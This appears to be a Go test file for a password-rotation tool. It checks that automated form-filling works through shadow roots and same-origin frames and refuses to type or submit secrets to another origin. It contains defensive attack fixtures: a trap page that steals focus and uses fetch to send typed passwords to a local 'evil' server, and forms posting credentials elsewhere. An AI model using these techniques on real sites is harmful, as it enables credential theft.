package browser

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/rotator-pam/rotator/secret"
	"github.com/rotator-pam/rotator/templates"
)

// shadowHost defines the custom element tag, whose shadow root (mode
// "open" or "closed") holds inner. A closed root is kept in
// window.closed_<tag> (dashes as underscores), for the test to look in.
func shadowHost(tag, mode, inner string) string {
	js, _ := json.Marshal(inner)
	keep := "closed_" + strings.ReplaceAll(tag, "-", "_")
	return fmt.Sprintf(`<script>customElements.define(%q, class extends HTMLElement { constructor() { super();
	const root = this.attachShadow({mode: %q}); root.innerHTML = %s; if (%q === "closed") window.%s = root; } });</script>`,
		tag, mode, js, mode, keep)
}

const shadowCode = "493817"

// shadowSite is an account's site built of web components: its sign-in
// and change-password forms live in shadow roots (the change form two
// roots deep), or in a same-origin frame. It keeps one account, alice.
type shadowSite struct {
	*httptest.Server
	mu       sync.Mutex
	password string
}

// The site's pages. The sign-in form asks for a code when it has an otp
// field; the change form is in x-change-password, inside x-app.
var shadowPages = map[string]string{
	"/login": `<!doctype html><title>Sign in</title><x-login></x-login>` + shadowHost("x-login", "open",
		`<form method="post" action="/session"><label>User <input id="username" name="user" autocomplete="username"></label>
<label>Password <input id="password" name="pw" type="password"></label>
<label>Code <input id="otp" name="otp" inputmode="numeric" autocomplete="one-time-code"></label>
<button type="submit">Sign in</button></form>`),
	"/framed-login": `<!doctype html><title>Sign in</title><h1>Sign in</h1><iframe id="login" src="/login-frame" width="500" height="300"></iframe>`,
	"/login-frame": `<!doctype html><form method="post" action="/session" target="_top">
<input id="username" name="user"><input id="password" name="pw" type="password"><button id="go">Sign in</button></form>`,
	"/framed-shadow-login": `<!doctype html><title>Sign in</title><iframe id="login" src="/login-frame-shadow" width="500" height="300"></iframe>`,
	"/login-frame-shadow": `<!doctype html><x-login></x-login>` + shadowHost("x-login", "open",
		`<form method="post" action="/session" target="_top"><input id="username" name="user"><input id="password" name="pw" type="password"><button>Sign in</button></form>`),
	"/home":     `<!doctype html><title>Home</title><p id="welcome">Welcome, alice</p>`,
	"/settings": `<!doctype html><title>Settings</title><x-app></x-app>` + shadowAppScripts(`<h1>Settings</h1><x-change-password></x-change-password>`),
	"/changed":  `<!doctype html><title>Changed</title><x-app></x-app>` + shadowAppScripts(`<p id="done">Your password was changed</p>`),
}

// shadowAppScripts defines x-app, whose shadow root holds inner, and
// x-change-password, whose own shadow root holds the change form.
func shadowAppScripts(inner string) string {
	return shadowHost("x-app", "open", inner) + shadowHost("x-change-password", "open",
		`<form method="post" action="/change"><label>Current password <input id="current" name="current" type="password" autocomplete="current-password"></label>
<label>New password <input id="new" name="new" type="password" autocomplete="new-password"></label>
<label>Repeat it <input id="confirm" name="confirm" type="password" autocomplete="new-password"></label>
<button type="submit">Save</button></form>`)
}

func newShadowSite(t *testing.T, password string) *shadowSite {
	t.Helper()
	s := &shadowSite{password: password}
	s.Server = httptest.NewServer(http.HandlerFunc(s.serve))
	t.Cleanup(s.Close)
	return s
}

func (s *shadowSite) serve(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if r.Method == http.MethodPost {
		r.ParseForm()
		target := "/login"
		switch r.URL.Path {
		case "/session":
			_, asked := r.Form["otp"]
			if r.Form.Get("user") == "alice" && r.Form.Get("pw") == s.password && (!asked || r.Form.Get("otp") == shadowCode) {
				http.SetCookie(w, &http.Cookie{Name: "sid", Value: "signed-in", Path: "/"})
				target = "/home"
			}
		case "/change":
			if c, err := r.Cookie("sid"); err == nil && c.Value == "signed-in" && r.Form.Get("current") == s.password &&
				r.Form.Get("new") != "" && r.Form.Get("new") == r.Form.Get("confirm") {
				s.password = r.Form.Get("new")
				target = "/changed"
			}
		}
		http.Redirect(w, r, target, http.StatusSeeOther)
		return
	}
	if r.URL.Path == "/logout" {
		http.SetCookie(w, &http.Cookie{Name: "sid", Value: "", Path: "/", MaxAge: -1})
		http.Redirect(w, r, "/login", http.StatusSeeOther)
		return
	}
	page, ok := shadowPages[r.URL.Path]
	if !ok {
		http.NotFound(w, r)
		return
	}
	w.Header().Set("Content-Type", "text/html")
	fmt.Fprint(w, page)
}

func (s *shadowSite) current() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.password
}

// shadowTemplate signs in, changes the password and signs out through
// shadow roots with plain fill, totp, click, if and expect steps.
const shadowTemplate = `name: shadow
base_url: http://127.0.0.1:1/
flows:
  login:
    - goto: /login
    - fill: "x-login >>> #username"
      value: "{{ username }}"
    - fill: "x-login >>> #password"
      value: "{{ password }}"
    - if: {exists: "x-login >>> #otp"}
      then:
        - totp: "x-login >>> #otp"
    - click: "x-login >>> button:contains(Sign in)"
    - expect: {url: /home}
  change:
    - goto: /settings
    - fill: "x-app >>> x-change-password >>> #current"
      value: "{{ password }}"
    - fill: "x-app >>> x-change-password >>> #new"
      value: "{{ new_password }}"
    - fill: "x-app >>> x-change-password >>> #confirm"
      value: "{{ new_password }}"
      keys: true
    - click: "x-app >>> x-change-password >>> button[type=submit]"
    - expect: {visible: "x-app >>> #done"}
    - wait_for: {visible: "x-app >>> text=your password was changed"}
    - expect: {text: "your password was changed"}
  logout:
    - goto: /logout
    - wait_for: {visible: "x-login >>> #username"}
`

// The done-when: a change form inside a shadow root (two roots
// deep) rotates with plain fill and click steps, after a sign-in whose
// form, code field included, is in a shadow root too; the new password
// then signs in. A text condition reads the words of a shadow root.
func TestShadowFormRotates(t *testing.T) {
	t.Parallel()
	const oldPw, newPw = "Old-Shadow-Pw-1", "New-Shadow-Pw-2"
	s := newShadowSite(t, oldPw)
	tpl := parseTemplate(t, shadowTemplate)
	r := exfilRunner(t, tpl, s.URL)
	r.Values = Values{Username: "alice", Password: secret.New(oldPw), NewPassword: secret.New(newPw),
		TOTP: func(context.Context) (secret.String, error) { return secret.New(shadowCode), nil }}
	var matched []string
	r.OnStep = func(rep StepReport) { matched = append(matched, rep.Matched) }
	ctx := ctxFor(t)
	for _, flow := range []string{templates.FlowLogin, templates.FlowChange, templates.FlowLogout} {
		if err := r.RunFlow(ctx, flow); err != nil {
			t.Fatalf("%s: %v", flow, err)
		}
	}
	if got := s.current(); got != newPw {
		t.Fatalf("the site's password is %q, want the new one", got)
	}
	if !strings.Contains(strings.Join(matched, "\n"), "x-login >>> #otp") {
		t.Errorf("the code was not typed into the shadow root's field: %q", matched)
	}
	r.Values.Password = secret.New(newPw)
	if err := r.RunFlow(ctx, templates.FlowLogin); err != nil {
		t.Fatalf("sign-in with the new password: %v", err)
	}
}

// A sign-in form inside a same-origin frame is filled and sent with
// selectors that go into the frame (no frame step), by a click or by
// Enter, also when the form is in a shadow root inside the frame; a text
// condition reads the frame's words, its shadow root's too.
func TestSameOriginFrameLogin(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ name, page, prefix, submit string }{
		{"click", "/framed-login", "iframe#login >>> ", `click: "iframe#login >>> #go"`},
		{"enter", "/framed-login", "iframe#login >>> ", `press: Enter`},
		{"shadow root in the frame", "/framed-shadow-login", "iframe#login >>> x-login >>> ", `click: "iframe#login >>> x-login >>> button"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			const pw = "Framed-Pw-42"
			s := newShadowSite(t, pw)
			tpl := parseTemplate(t, fmt.Sprintf(`name: t
base_url: http://127.0.0.1:1/
flows:
  login:
    - goto: %s
    - fill: "%s#username"
      value: "{{ username }}"
    - fill: "%s#password"
      value: "{{ password }}"
    - expect: {text: "Sign in"}
    - %s
    - expect: {url: /home}
  change: [{goto: /}, {expect: {url: /}}]
  logout: [{goto: /}]
`, tc.page, tc.prefix, tc.prefix, tc.submit))
			r := exfilRunner(t, tpl, s.URL)
			r.Values.Password = secret.New(pw)
			if err := r.RunFlow(ctxFor(t), templates.FlowLogin); err != nil {
				t.Fatal(err)
			}
		})
	}
}

// newEvil is another origin than the site's that serves page and records
// every request. With domainOpen, its page and the site's may script each
// other (both set document.domain and leave origin-keyed agent
// clusters), as a page's scripts see it: a lying site page can reach into
// the frame's document, which must not make it reachable for secrets.
func newEvil(t *testing.T, page string, domainOpen bool) *listener {
	t.Helper()
	l := &listener{}
	l.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		l.mu.Lock()
		l.reqs = append(l.reqs, r.Method+" "+r.URL.String()+" "+string(body))
		l.mu.Unlock()
		w.Header().Set("Content-Type", "text/html")
		if domainOpen {
			w.Header().Set("Origin-Agent-Cluster", "?0")
		}
		fmt.Fprint(w, page)
	}))
	t.Cleanup(l.Close)
	return l
}

// trapPage takes the focus into its password field whenever its window
// gets it, and sends home whatever is typed there.
const trapPage = `<!doctype html><input id="password" type="password">
<script>
const pw = document.getElementById("password");
window.addEventListener("focus", () => pw.focus());
pw.addEventListener("input", () => fetch("/typed?password=" + encodeURIComponent(pw.value)));
</script>`

// A >>> chain does not go into a frame of another origin: not a plain
// cross-origin frame, and not one whose document the page's own scripts
// can reach (document.domain), since the frame's origin is read from the
// browser's frame tree. The error says why and names the frame step.
// Nothing is typed into the frame, and a text condition does not read its
// words, also when it passes for the page's origin by window.origin. A
// closed shadow root is not entered either: the field in it stays empty.
func TestChainStopsAtOtherOrigins(t *testing.T) {
	t.Parallel()
	for _, domainOpen := range []bool{false, true} {
		t.Run(fmt.Sprintf("document.domain %v", domainOpen), func(t *testing.T) {
			t.Parallel()
			evil := newEvil(t, trapPage+`<p>Your password was changed</p>
<script>document.domain = "127.0.0.1"; try { window.origin = parent.origin } catch (e) {}</script>`, domainOpen)
			srv := newSiteWithHeader(t, domainOpen, map[string]string{"/login": fmt.Sprintf(`<!doctype html><h1>Sign in</h1>
<iframe id="login" src="%s/" width="400" height="200"></iframe><script>document.domain = "127.0.0.1"</script>`, evil.URL)})
			r := exfilRunner(t, parseTemplate(t, chainFillTemplate("iframe#login >>> #password", false, "10s")), srv.URL)
			if domainOpen {
				// The page's scripts do reach the frame's field and words,
				// and the frame's window.origin is the page's.
				r.Page.MustNavigate(srv.URL + "/login").MustWaitLoad()
				if got := r.Page.MustEval(`() => { try { const f = document.getElementById("login");
					return !!f.contentDocument.getElementById("password") && f.contentDocument.body.innerText.includes("password was changed") && f.contentWindow.origin === self.origin } catch (e) { return false } }`).Bool(); !got {
					t.Fatal("the page's scripts cannot reach the frame's document: the case tests nothing")
				}
			}
			err := r.RunFlow(ctxFor(t), templates.FlowLogin)
			var se *StepError
			if !errors.As(err, &se) || se.Path != "2" || !strings.Contains(err.Error(), "is a frame of "+evil.URL+", another origin") ||
				!strings.Contains(err.Error(), "a frame step enters the others") {
				t.Fatalf("got %v, want the fill to fail at the cross-origin frame", err)
			}
			if got, leaked := evil.requests("/typed"); leaked || len(got) > 0 {
				t.Fatalf("the other origin received typing: %q", got)
			}
			if ok, err := checkCondition(r.Page, templates.Condition{Kind: templates.CondText, Pattern: "password was changed"}); ok || err != nil {
				t.Errorf("a text condition read the frame of another origin (%v, %v)", ok, err)
			}
		})
	}
	t.Run("closed shadow root", func(t *testing.T) {
		t.Parallel()
		srv := site(t, map[string]string{"/login": `<!doctype html><x-login></x-login>` +
			shadowHost("x-login", "closed", `<input id="password" type="password">`)})
		r := exfilRunner(t, parseTemplate(t, chainFillTemplate("x-login >>> #password", false, "2s")), srv.URL)
		err := r.RunFlow(ctxFor(t), templates.FlowLogin)
		var se *StepError
		if !errors.As(err, &se) || se.Path != "2" || !strings.Contains(err.Error(), "no element is visible for x-login >>> #password") {
			t.Fatalf("got %v, want no element found", err)
		}
		if v := r.Page.MustEval(`() => window.closed_x_login.getElementById("password").value`).Str(); v != "" {
			t.Errorf("the closed root's field holds %d characters", len(v))
		}
		for _, c := range se.Candidates {
			if strings.Contains(c.Selector, "x-login") {
				t.Errorf("a candidate reaches into the closed root: %+v", c)
			}
		}
	})
}

// newSiteWithHeader is site, with the site's pages also leaving
// origin-keyed agent clusters when domainOpen is set.
func newSiteWithHeader(t *testing.T, domainOpen bool, pages map[string]string) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		page, ok := pages[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		if domainOpen {
			w.Header().Set("Origin-Agent-Cluster", "?0")
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, page)
	}))
	t.Cleanup(srv.Close)
	return srv
}

// chainFillTemplate opens /login and types the password into sel; the
// step fails by design. Its deadline is short (2 s) where the case waits
// it out, and long (10 s) where the field must be found first (a frame's
// on a busy machine) for the refusal to come.
func chainFillTemplate(sel string, keys bool, timeout string) string {
	return fmt.Sprintf(`name: t
base_url: http://127.0.0.1:1/
flows:
  login:
    - goto: /login
    - fill: %q
      value: "{{ password }}"
      keys: %v
      timeout: %s
  change: [{goto: /}, {expect: {url: /}}]
  logout: [{goto: /}]
`, sel, keys, timeout)
}

// The field a chain found moves the focus when it gets it: into a frame
// of another origin, out of a same-origin frame into another origin's, or
// into a closed shadow root. The secret is not typed, at once or key by
// key, and the focus really was taken (what is typed next lands there).
func TestSecretNotTypedWhenFocusMoves(t *testing.T) {
	t.Parallel()
	type page struct{ name, sel, login, frame string }
	cases := []page{
		{"shadow root to another origin's frame", "x-login >>> #password",
			`<!doctype html><x-login></x-login><iframe id="ad" src="%s/"></iframe>` + shadowHost("x-login", "open", `<input id="password" type="password">`) +
				`<script>document.querySelector("x-login").shadowRoot.getElementById("password").addEventListener("focus", () => document.getElementById("ad").contentWindow.focus())</script>`, ""},
		{"same-origin frame to another origin's frame", "iframe#login >>> #password",
			`<!doctype html><iframe id="login" src="/frame"></iframe><iframe id="ad" src="%s/"></iframe>`,
			`<!doctype html><input id="password" type="password"><script>document.getElementById("password").addEventListener("focus", () => parent.document.getElementById("ad").contentWindow.focus())</script>`},
	}
	for _, tc := range cases {
		for _, keys := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s, keys %v", tc.name, keys), func(t *testing.T) {
				t.Parallel()
				evil := newEvil(t, trapPage, false)
				srv := site(t, map[string]string{"/login": fmt.Sprintf(tc.login, evil.URL), "/frame": tc.frame})
				r := exfilRunner(t, parseTemplate(t, chainFillTemplate(tc.sel, keys, "10s")), srv.URL)
				err := r.RunFlow(ctxFor(t), templates.FlowLogin)
				if err == nil || !strings.Contains(err.Error(), "does not hold the focus") {
					t.Fatalf("got %v, want the secret refused", err)
				}
				if got, leaked := evil.requests("/typed"); leaked || len(got) > 0 {
					t.Fatalf("the other origin received typing: %q", got)
				}
				// Read in the frame itself, not from the network: what is
				// typed next lands in the other origin's field.
				r.Page.MustInsertText("probe")
				trap := r.Page.MustElement("#ad").MustFrame()
				if v := trap.MustEval(`() => document.getElementById("password").value`).Str(); v != "probe" {
					t.Errorf("the other origin's frame did not hold the focus (its field holds %q, its focus is on %s): the case tests nothing",
						v, trap.MustEval(`() => document.activeElement.tagName + " " + document.hasFocus()`).Str())
				}
			})
		}
	}
	t.Run("into a closed shadow root", func(t *testing.T) {
		t.Parallel()
		srv := site(t, map[string]string{"/login": `<!doctype html><x-login></x-login><x-widget></x-widget>` +
			shadowHost("x-login", "open", `<input id="password" type="password">`) +
			shadowHost("x-widget", "closed", `<input id="trap">`) +
			`<script>document.querySelector("x-login").shadowRoot.getElementById("password").addEventListener("focus", () => window.closed_x_widget.getElementById("trap").focus())</script>`})
		r := exfilRunner(t, parseTemplate(t, chainFillTemplate("x-login >>> #password", false, "10s")), srv.URL)
		err := r.RunFlow(ctxFor(t), templates.FlowLogin)
		if err == nil || !strings.Contains(err.Error(), "does not hold the focus") {
			t.Fatalf("got %v, want the secret refused", err)
		}
		trap := `() => window.closed_x_widget.getElementById("trap").value`
		if v := r.Page.MustEval(trap).Str(); v != "" {
			t.Fatalf("the closed root's field holds %d characters", len(v))
		}
		r.Page.MustInsertText("probe")
		if v := r.Page.MustEval(trap).Str(); v != "probe" {
			t.Error("the closed root's field did not hold the focus: the case tests nothing")
		}
	})
}

// A form in a shadow root or a same-origin frame that would send the typed
// secret to another origin is refused at the click or at Enter: the key
// goes to the focus inside the shadow root or the frame, and that is what
// is checked (a document's activeElement is only the host or the frame).
func TestShadowFormNotSentElsewhere(t *testing.T) {
	t.Parallel()
	form := `<form method="post" action="%s/collect"><input id="password" name="pw" type="password"><button id="go">Sign in</button></form>`
	for _, tc := range []struct{ name, login, frame, prefix string }{
		{"shadow root", `<!doctype html><x-login></x-login>` + shadowHost("x-login", "open", form), "", "x-login >>> "},
		{"same-origin frame", `<!doctype html><iframe id="login" src="/frame"></iframe>`, "<!doctype html>" + form, "iframe#login >>> "},
	} {
		for _, submit := range []string{`click: "` + tc.prefix + `#go"`, `press: Enter`} {
			t.Run(tc.name+" "+submit, func(t *testing.T) {
				t.Parallel()
				evil := newListener(t)
				pages := map[string]string{"/login": fmt.Sprintf(tc.login, evil.URL)}
				if tc.frame != "" {
					pages["/frame"] = fmt.Sprintf(tc.frame, evil.URL)
				}
				srv := site(t, pages)
				tpl := parseTemplate(t, fmt.Sprintf(`name: t
base_url: http://127.0.0.1:1/
flows:
  login:
    - goto: /login
    - fill: "%s#password"
      value: "{{ password }}"
    - %s
  change: [{goto: /}, {expect: {url: /}}]
  logout: [{goto: /}]
`, tc.prefix, submit))
				err := exfilRunner(t, tpl, srv.URL).RunFlow(ctxFor(t), templates.FlowLogin)
				var oe *OriginError
				if !errors.As(err, &oe) || !oe.Submit || oe.Origin != evil.URL {
					t.Fatalf("got %v, want a refused submit to %s", err, evil.URL)
				}
				if got, leaked := evil.requests("/collect"); leaked || len(got) > 0 {
					t.Fatalf("the other origin received %q", got)
				}
			})
		}
	}
}

// A template may name a component that passes its focus on to a field in
// its shadow root (delegatesFocus), as it could before chains: the secret
// is typed, into that field, since the focus followed from the document
// reaches the component named.
func TestFillingAComponentThatPassesFocusOn(t *testing.T) {
	t.Parallel()
	srv := site(t, map[string]string{"/login": `<!doctype html><x-pass></x-pass>
<script>customElements.define("x-pass", class extends HTMLElement { constructor() { super();
	this.attachShadow({mode: "open", delegatesFocus: true}).innerHTML = '<input id="inner" type="password">'; } });</script>`})
	tpl := parseTemplate(t, `name: t
base_url: http://127.0.0.1:1/
flows:
  login:
    - goto: /login
    - fill: x-pass
      value: "{{ password }}"
  change: [{goto: /}, {expect: {url: /}}]
  logout: [{goto: /}]
`)
	r := exfilRunner(t, tpl, srv.URL)
	if err := r.RunFlow(ctxFor(t), templates.FlowLogin); err != nil {
		t.Fatal(err)
	}
	if v := r.Page.MustEval(`() => document.querySelector("x-pass").shadowRoot.getElementById("inner").value`).Str(); v != exfilPassword {
		t.Errorf("the component's field holds %d characters", len(v))
	}
}

// A chain is never CSS the browser would run some other way: Chromium
// refuses ">>>" (the deep combinator it once was is gone), and each part of
// a chain rotator accepts is CSS Chromium runs.
func TestChromiumRefusesTheChainCombinator(t *testing.T) {
	t.Parallel()
	page := newPage(t).Context(ctxFor(t))
	throws := func(sel string) bool {
		return page.MustEval(`(s) => { try { document.querySelectorAll(s); return false } catch (e) { return true } }`, sel).Bool()
	}
	for _, sel := range []string{"a >>> b", "x-app>>>#pw", "iframe#login >>> input[name=pw]"} {
		if !throws(sel) {
			t.Errorf("Chromium runs %q as CSS", sel)
		}
		alt, err := templates.ParseAlternative(sel)
		if err != nil {
			t.Fatalf("%q: %v", sel, err)
		}
		for _, part := range append(append([]string(nil), alt.Within...), alt.CSS) {
			if throws(part) {
				t.Errorf("%q: Chromium refuses the part %q", sel, part)
			}
		}
	}
}

// A text condition, a template's challenge text and the built-in
// trust-prompt detector read the words a person sees in open shadow roots,
// nested ones too, and a component's own words beside its elements; not
// words hidden there, a style sheet's text, nor a closed root's.
func TestPageTextSeesOpenShadowRoots(t *testing.T) {
	t.Parallel()
	page := newPage(t).Context(ctxFor(t))
	page.MustSetDocumentContent(`<!doctype html><title>Account</title><p>Light words</p>
<x-card><template shadowrootmode="open"><style>.style-words {}</style><h2>Trust this browser?</h2>Bare words
<x-inner><template shadowrootmode="open"><p>Nested words</p><p hidden>Hidden words</p></template></x-inner><slot></slot></template><span>Slotted words</span></x-card>
<x-gone style="display:none"><template shadowrootmode="open"><p>Gone words</p>Gone bare words</template></x-gone>
<x-shut><template shadowrootmode="closed"><p>Closed words</p></template></x-shut>`)
	for text, want := range map[string]bool{"light words": true, "bare words": true, "nested words": true, "slotted words": true,
		"hidden words": false, "gone words": false, "gone bare words": false, "closed words": false, "style-words": false} {
		got, err := checkCondition(page, templates.Condition{Kind: templates.CondText, Pattern: text})
		if err != nil || got != want {
			t.Errorf("text %q: %v (%v), want %v", text, got, err, want)
		}
	}
	tpl := &templates.Template{Challenges: []templates.Challenge{{Name: "nested", Kind: templates.ChallengeVerification, Matcher: templates.Matcher{Text: "nested words"}}}}
	if ce, err := detectChallenge(page, tpl); err != nil || ce == nil || ce.Name != "nested" {
		t.Errorf("the template's challenge text in a shadow root: %v, %v", ce, err)
	}
	if ce, err := detectChallenge(page, &templates.Template{}); err != nil || ce == nil || ce.Kind != templates.ChallengeTrustBrowser || !ce.Builtin {
		t.Errorf("the trust prompt's heading in a shadow root: %v, %v", ce, err)
	}
}
